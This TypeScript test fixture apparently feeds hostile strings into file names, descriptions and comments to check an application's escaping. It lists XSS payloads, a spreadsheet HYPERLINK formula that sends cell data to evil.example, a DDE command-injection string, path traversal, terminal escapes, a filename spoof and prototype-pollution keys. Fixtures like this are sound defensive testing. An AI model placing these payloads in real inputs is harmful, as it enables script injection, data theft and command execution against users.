/** In each of them, so that it is found wherever it goes. */
export const MARK = 'ZZMARKER';

/** What names, descriptions and comments of a hostile file may be: each breaks out of something. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>pwned=1</script>${MARK}`,
  `"><img src=x onerror="pwned=1">${MARK}`,
  `' onload='pwned=1' ${MARK}`,
  `</style></title></svg><svg onload=pwned=1>${MARK}`,
  `javascript:pwned=1//${MARK}`,
  `]]>&#60;script&#62;&lt;${MARK}`,
  `=HYPERLINK("http://evil.example/?"&A1,"${MARK}")`,
  `+1|cmd ' /C calc'!${MARK}`,
  `../../${MARK}\\..\\${MARK}`,
  `${MARK}\u0000\u0007\u001b[31m\r\n${MARK}:=1`,
  `${MARK}\u202Egnp.exe\u2066`,
  `${MARK}\uD800`,
  `${MARK}^PATIENT=\\*?|:`,
  `__proto__`,
  `constructor`,
  `\${pwned}{{pwned}}%s%n${MARK}`,
  `${MARK}${'a'.repeat(5000)}`,
];
